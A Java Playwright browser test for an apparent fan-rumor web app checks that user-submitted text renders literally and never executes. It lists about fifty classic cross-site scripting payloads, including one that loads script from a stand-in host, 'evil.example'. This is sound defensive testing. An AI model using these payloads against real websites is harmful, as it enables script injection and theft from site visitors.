package app.encore.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import app.encore.fan.FanId;
import app.encore.rumor.Moderation;
import app.encore.rumor.RumorDraft;
import app.encore.rumor.RumorItem;
import app.encore.rumor.Rumors;
import app.encore.rumor.SourceKind;
import app.encore.rumor.Verdict;
import app.encore.support.ProofOfWorkSolver;
import app.encore.support.SignedIn;
import app.encore.support.TestShows;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Fans' text is only ever text: classic XSS payloads go through submitting (the service, and the
 * real form for some), publishing with a verdict note, and the show page in Chromium. Each must
 * appear literally, and no script may run: no dialog opens and no injected global appears.
 */
@ExtendWith(TestShows.class)
class XssInBrowserTest extends BrowserTest {

    static final List<String> PAYLOADS = List.of(
            "<script>window.__xss=1;alert(1)</script>",
            "<img src=x onerror=\"window.__xss=1;alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg/onload=window.__xss=1>",
            "<body onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click me</a>",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<input onfocus=alert(1) autofocus>",
            "<select onfocus=alert(1) autofocus>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<object data=\"javascript:alert(1)\">",
            "<embed src=\"javascript:alert(1)\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<form action=\"javascript:alert(1)\"><button>go</button></form>",
            "<isindex action=javascript:alert(1) type=image>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<div style=\"width:expression(alert(1))\">",
            "<link rel=stylesheet href=\"javascript:alert(1)\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
            "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "<template><script>alert(1)</script></template>",
            "<style>@import 'javascript:alert(1)';</style>",
            "<table background=\"javascript:alert(1)\">",
            "<img src=\"x:x\" onerror=\"alert(1)\"/>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xmp><script>alert(1)</script></xmp>",
            "<textarea><script>alert(1)</script></textarea>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<img src=`x`onerror=alert(1)>",
            "<BODY ONLOAD=alert(1)>",
            "%3Cscript%3Ealert(1)%3C/script%3E");



    @Autowired
    Rumors rumors;

    @Autowired
    Moderation moderation;

    @Autowired
    JdbcClient jdbc;



    @Test
    void fifty_classic_payloads_appear_literally_and_no_script_runs() {
        assertThat(PAYLOADS).hasSizeGreaterThanOrEqualTo(50);
        TestShows.Created show = TestShows.open(jdbc);

        // Three go through the real form in the browser, the rest through the same service.
        List<String> dialogs = new CopyOnWriteArrayList<>();
        try (BrowserContext context = context(1366, 900)) {
            Page page = context.newPage();
            page.onDialog(dialog -> {
                dialogs.add(dialog.message());
                dialog.dismiss();
            });
            page.navigate(url("/shows/" + show.slug()));
            for (String payload : PAYLOADS.subList(0, 3)) {
                RumorsInBrowserTest.submitRumor(page, headline(payload));
            }

            List<Long> ids = new ArrayList<>();
            for (String payload : PAYLOADS.subList(3, PAYLOADS.size())) {
                RumorItem item = rumors.submit(FanId.random(), show.id(), new RumorDraft(headline(payload), payload,
                        "https://press.example/?q=" + Math.abs(payload.hashCode()), SourceKind.OTHER,
                        LocalDate.of(2026, 11, 1)), ProofOfWorkSolver.solve(rumors.challenge()));
                ids.add(item.id());
            }
            ids.addAll(jdbc.sql("SELECT id FROM rumor WHERE show_id = :show AND moderation_state = 'PENDING'")
                    .param("show", show.id()).query(Long.class).list());
            SignedIn.asModerator(() -> {
                moderation.publish(ids.stream().distinct().toList());
                moderation.judge(ids.stream().distinct().toList(), Verdict.DOUBTFUL, "<img src=x onerror=alert(1)> note",
                        "https://press.example/evidence");
            });

            page.navigate(url("/shows/" + show.slug()));
            // The live page replaces the first response once Encore has started: check the live one.
            Chromium.settle(page);
            assertThat(page.locator(".rumor")).hasCount(PAYLOADS.size());
            String text = page.locator(".show-rumors").innerText();
            for (String payload : PAYLOADS) {
                assertThat(text).as("shown literally: %s", payload).contains(headline(payload));
            }
            assertThat(text).contains("<img src=x onerror=alert(1)> note");
            page.locator(".show-rumors").scrollIntoViewIfNeeded();
            page.mouse().move(400, 400);
            page.waitForTimeout(500);

            assertThat(dialogs).as("alerts that ran").isEmpty();
            assertThat(page.evaluate("() => window.__xss === undefined")).isEqualTo(true);
            assertThat(page.locator(".show-rumors script, .show-rumors img, .show-rumors svg, .show-rumors iframe")).hasCount(0);
            page.screenshot(new Page.ScreenshotOptions().setPath(Chromium.screenshot("xss-rumors-desktop")));
        }
    }

    /** Headlines need 10–140 characters: short payloads are padded, long ones cut. */
    static String headline(String payload) {
        String padded = payload.length() < 10 ? "XSS test: " + payload : payload;
        return padded.length() > 140 ? padded.substring(0, 140) : padded;
    }


}
